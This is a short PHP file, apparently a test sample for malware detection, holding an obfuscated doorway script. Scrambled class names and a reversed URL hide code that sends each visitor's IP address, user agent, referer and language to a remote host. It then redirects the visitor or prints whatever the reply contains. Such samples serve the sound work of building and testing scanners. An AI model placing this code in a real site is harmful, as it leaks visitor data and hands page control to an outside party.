<?php
// test sample (inert): the same doorway behind a class with scrambled names, the server's address
// packed and the reply in JSON
class _q7 {
    static function _a() {
        return array('a' => $_SERVER['REMOTE_ADDR'], 'b' => @$_SERVER['HTTP_USER_AGENT'],
            'c' => @$_SERVER['HTTP_REFERER'], 'd' => @$_SERVER['HTTP_ACCEPT_LANGUAGE']);
    }
    static function _b($u, $p) {
        $o = array('http' => array('method' => 'POST', 'content' => http_build_query($p),
            'header' => "Content-type: application/x-www-form-urlencoded"));
        return @file_get_contents($u, false, stream_context_create($o));
    }
}
$_z = _q7::_b(strrev('php.og/29.2.0.291//:ptth'), _q7::_a());
$_y = json_decode($_z, true);
if (isset($_y['h'])) { header($_y['h']); exit; }
if (isset($_y['c'])) { print $_y['c']; }
